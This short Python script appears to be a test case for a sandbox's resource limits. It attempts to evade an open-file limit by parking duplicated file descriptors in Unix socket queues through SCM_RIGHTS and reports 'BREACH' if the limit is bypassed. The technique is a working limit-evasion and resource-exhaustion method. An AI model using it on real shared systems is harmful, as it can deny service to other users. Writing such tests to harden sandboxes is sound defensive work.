# attack: park descriptors in socket queues, where the limit does not count them
# must end: completed or raised
# limits: open_files=128 wall=5s
# with: neighbour
import array, os, socket
sent, pairs = 0, []
payload = array.array("i", [os.open("/dev/null", os.O_RDONLY)] * 200)
try:
    while sent < 100000:
        left, right = socket.socketpair()
        pairs.append((left, right))
        left.setblocking(False)
        for _ in range(50):
            left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, payload)])
            sent += 200
except OSError:
    pass
if sent > 10000:
    print("BREACH: parked", sent, "descriptors")
pairs.clear()
print("held")
